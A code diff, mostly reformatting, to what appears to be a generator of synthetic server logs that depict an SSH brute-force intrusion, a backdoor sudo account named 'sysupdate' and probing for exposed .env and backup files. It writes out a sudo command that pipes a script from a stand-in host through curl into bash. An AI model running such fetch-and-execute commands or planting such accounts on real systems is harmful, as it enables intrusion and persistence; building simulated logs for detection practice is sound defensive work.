@@ -68,22 +68,41 @@ export function bastionIntrusion(from: number, chance: Chance): Line[] {
   let at = from
   for (let guess = 0; guess < 412; guess += 1) {
     at += chance.between(1_200, 3_400)
-    lines.push(syslog(at, `sshd[${chance.between(2_000, 60_000)}]`, `Failed password for backup from ${attackerAddress} port ${chance.between(30_000, 60_000)} ssh2`))
+    lines.push(
+      syslog(
+        at,
+        `sshd[${chance.between(2_000, 60_000)}]`,
+        `Failed password for backup from ${attackerAddress} port ${chance.between(30_000, 60_000)} ssh2`,
+      ),
+    )
   }
   at += 2_600
   lines.push(syslog(at, 'sshd[41877]', `Accepted password for backup from ${attackerAddress} port 51344 ssh2`))
   lines.push(syslog(at + 80, 'sshd[41877]', 'pam_unix(sshd:session): session opened for user backup(uid=34) by (uid=0)'))
-  const commands = ['/usr/bin/id', '/bin/bash', "/usr/bin/bash -c curl -s http://files.update-mirror.net/s/u.sh | bash"]
+  const commands = ['/usr/bin/id', '/bin/bash', '/usr/bin/bash -c curl -s http://files.update-mirror.net/s/u.sh | bash']
   for (const command of commands) {
     at += chance.between(20_000, 90_000)
     lines.push(syslog(at, 'sudo', `  backup : TTY=pts/1 ; PWD=/var/backups ; USER=root ; COMMAND=${command}`))
   }
-  lines.push(syslog(at + 40_000, 'useradd[41990]', 'new user: name=sysupdate, UID=1009, GID=1009, home=/home/sysupdate, shell=/bin/bash, from=/dev/pts/1'))
+  lines.push(
+    syslog(at + 40_000, 'useradd[41990]', 'new user: name=sysupdate, UID=1009, GID=1009, home=/home/sysupdate, shell=/bin/bash, from=/dev/pts/1'),
+  )
   lines.push(syslog(at + 52_000, 'usermod[41996]', "add 'sysupdate' to group 'sudo'"))
   return lines
 }
 
-const pages = ['/', '/tours', '/tours/lisbon', '/tours/oslo', '/search?q=lake', '/account', '/cart', '/static/app.css', '/static/app.js', '/images/hero.webp']
+const pages = [
+  '/',
+  '/tours',
+  '/tours/lisbon',
+  '/tours/oslo',
+  '/search?q=lake',
+  '/account',
+  '/cart',
+  '/static/app.css',
+  '/static/app.js',
+  '/images/hero.webp',
+]
 const browsers = [
   'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36',
   'Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1',
@@ -116,8 +135,14 @@ export function ordinaryAccessLog(start: number, days: number, chance: Chance): 
 /** Somebody looks for forgotten files, and finds one. */
 export function exposedFile(from: number): Line[] {
   const tried = [
-    ['/.git/config', 404, 162], ['/wp-config.php.bak', 404, 162], ['/backup.sql', 404, 162], ['/.env.production', 404, 162], ['/deploy/.env', 200, 611],
+    ['/.git/config', 404, 162],
+    ['/wp-config.php.bak', 404, 162],
+    ['/backup.sql', 404, 162],
+    ['/.env.production', 404, 162],
+    ['/deploy/.env', 200, 611],
   ] as const
   const agent = 'python-requests/2.31.0'
-  return tried.map(([path, status, bytes], index) => access({ at: from + index * 1_700, address: attackerAddress, request: `GET ${path} HTTP/1.1`, status, bytes, agent }))
+  return tried.map(([path, status, bytes], index) =>
+    access({ at: from + index * 1_700, address: attackerAddress, request: `GET ${path} HTTP/1.1`, status, bytes, agent }),
+  )
 }
